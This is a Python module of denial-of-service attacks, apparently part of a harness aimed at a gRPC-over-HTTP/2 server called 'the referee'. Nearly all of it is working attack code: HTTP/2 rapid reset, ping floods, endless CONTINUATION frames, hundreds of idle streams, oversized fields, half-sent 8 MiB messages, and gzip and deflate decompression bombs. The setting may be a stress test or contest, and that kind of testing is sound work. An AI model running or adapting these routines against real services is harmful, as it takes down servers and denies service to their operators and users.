"""Attacks on the address of the referee, which need no token."""

import contextlib
import gzip
import struct
import zlib

from .catalogue import attack
from .wire import (
    CONTINUATION,
    END_HEADERS,
    FRAME_BYTES,
    HEADERS,
    HEALTH_CHECK,
    PING,
    PLAY,
    Connection,
    Target,
    frame,
    header_block,
    message,
)

MIB = 1 << 20


def text_field(text: bytes) -> bytes:
    """Return a message whose first field is this text."""
    size, prefix = len(text), bytearray([0x0A])
    while size >= 128:
        prefix.append(size % 128 + 128)
        size //= 128
    return bytes([*prefix, size]) + text


@attack()
def silent_streams(target: Target) -> None:
    """Hold 400 streams open that never send Hello."""
    held: list[tuple[Connection, set[int]]] = []
    for _ in target.rounds(0.02):
        with contextlib.suppress(OSError):
            if len(held) < 4:
                held.append((Connection(target), set()))
        for connection, streams in held.copy():
            try:
                connection.pump(0)
                streams.difference_update(connection.ended)
                connection.ended.clear()
                while len(streams) < 100:
                    streams.add(connection.open(PLAY))
            except OSError:
                held.remove((connection, streams))


@attack()
def health_names(target: Target) -> None:
    """Check the health of services with names of 6 MiB."""
    _call_again(target, HEALTH_CHECK, text_field(b"n" * (6 * MIB)))


def _call_again(target: Target, path: str, request: bytes, calls: int = 4) -> None:
    """Repeat a call, so many times at once on one connection."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for _ in target.rounds():
                streams = [connection.call(path, request) for _ in range(calls)]
                for stream in streams:
                    connection.wait_for_end(stream)
                    connection.ended.discard(stream)


@attack()
def rapid_reset(target: Target) -> None:
    """Open streams and reset them at once."""
    block = header_block(PLAY)
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            stream = 1
            for _ in target.rounds():
                burst = bytearray()
                for _ in range(100):
                    burst += frame(HEADERS, END_HEADERS, stream, block)
                    burst += frame(3, 0, stream, struct.pack(">I", 8))
                    stream += 2
                connection.send(bytes(burst))
                connection.pump(0)
                connection.ended.clear()


def _flood(target: Target, burst: bytes, *, stream: bool = False) -> None:
    """Send these frames again and again, after a call was opened if `stream`."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            if stream:
                connection.open(PLAY)
            for _ in target.rounds():
                connection.send(burst)
                connection.pump(0)


@attack()
def pings(target: Target) -> None:
    """Ping without a pause."""
    _flood(target, frame(PING, 0, 0, bytes(8)) * 1_000)


@attack()
def continuations(target: Target) -> None:
    """Begin headers and never end them."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            connection.send(frame(HEADERS, 0, 1, header_block(PLAY)))
            more = b"\0\x01x" + b"\x7f" + b"\x80\x7e" + b"y" * 16_255
            for _ in target.rounds():
                connection.send(frame(CONTINUATION, 0, 1, more[:FRAME_BYTES]))


@attack()
def half_messages(target: Target) -> None:
    """Send all but the last byte of messages of 8 MiB, on many streams."""
    body = message(bytes(8 * MIB - 16))[:-1]
    held = []
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError):
            connection = Connection(target)
            held.append(connection)
            for _ in range(20):
                connection.write(connection.open(PLAY), body)
                connection.write(connection.open(HEALTH_CHECK), body)


@attack()
def inflated_messages(target: Target) -> None:
    """Send compressed messages that inflate a thousandfold."""
    bombs = {"gzip": gzip.compress(bytes(60 * MIB)), "deflate": zlib.compress(bytes(8 * MIB - 99))}
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                name = ("gzip", "deflate")[number % 2]
                for path in (PLAY, HEALTH_CHECK):
                    stream = connection.open(path, [("grpc-encoding", name)])
                    connection.write(stream, message(bombs[name], compressed=True), end=True)
                    if number % 8 == 7:
                        connection.wait_for_end(stream, 0.5)
                connection.pump(0)
                if number % 8 == 7:
                    connection.ended.clear()
